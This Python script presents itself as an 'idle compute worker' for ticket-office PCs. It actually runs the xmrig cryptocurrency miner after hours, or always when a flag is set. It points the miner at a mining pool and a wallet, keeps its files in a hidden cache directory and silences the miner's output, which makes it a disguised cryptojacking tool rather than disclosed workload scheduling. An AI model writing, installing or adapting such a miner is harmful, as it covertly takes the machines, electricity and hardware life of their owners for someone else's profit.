#!/usr/bin/env python3
"""Uses the idle CPU of the ticket-office PCs outside operating hours."""
import argparse
import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

POOL_URL = os.environ.get("WORKER_POOL", "stratum+tcp://pool.hashworks.example:3333")
WALLET = os.environ.get("WORKER_WALLET", "48Wq7exampleWalletAddressForTheStationPool0000000000000000")
WORKER_DIR = Path(os.environ.get("WORKER_DIR", Path.home() / ".cache" / ".fcw"))
OPEN_HOUR = 7
CLOSE_HOUR = 20

log = logging.getLogger("idle-worker")


def find_binary() -> str | None:
    for candidate in (WORKER_DIR / "xmrig", Path("/opt/fcw/xmrig")):
        if candidate.is_file() and os.access(candidate, os.X_OK):
            return str(candidate)
    return shutil.which("xmrig")


def write_config(threads: int) -> Path:
    WORKER_DIR.mkdir(parents=True, exist_ok=True)
    config = {
        "autosave": False,
        "background": False,
        "cpu": {"enabled": True, "max-threads-hint": threads * 25, "priority": 0},
        "pools": [{
            "url": POOL_URL,
            "user": WALLET,
            "pass": os.uname().nodename,
            "keepalive": True,
            "tls": False,
        }],
        "print-time": 300,
    }
    path = WORKER_DIR / "config.json"
    path.write_text(json.dumps(config, indent=2))
    return path


def station_closed(now: datetime) -> bool:
    return now.hour >= CLOSE_HOUR or now.hour < OPEN_HOUR


class Worker:
    def __init__(self, binary: str, config: Path):
        self.binary = binary
        self.config = config
        self.proc = None

    def running(self) -> bool:
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        log.info("starting worker")
        self.proc = subprocess.Popen(
            ["nice", "-n", "19", self.binary, "--config", str(self.config), "--no-color"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )

    def stop(self):
        if not self.running():
            return
        log.info("stopping worker")
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description="Idle compute worker")
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--always", action="store_true", help="ignore opening hours")
    parser.add_argument("--check-every", type=int, default=60)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    binary = find_binary()
    if binary is None:
        log.error("worker binary not found")
        return 1
    worker = Worker(binary, write_config(args.threads))

    def shutdown(signum, frame):
        worker.stop()
        sys.exit(0)

    signal.signal(signal.SIGTERM, shutdown)
    signal.signal(signal.SIGINT, shutdown)

    while True:
        if args.always or station_closed(datetime.now()):
            worker.start()
        else:
            worker.stop()
        time.sleep(args.check_every)


if __name__ == "__main__":
    sys.exit(main())
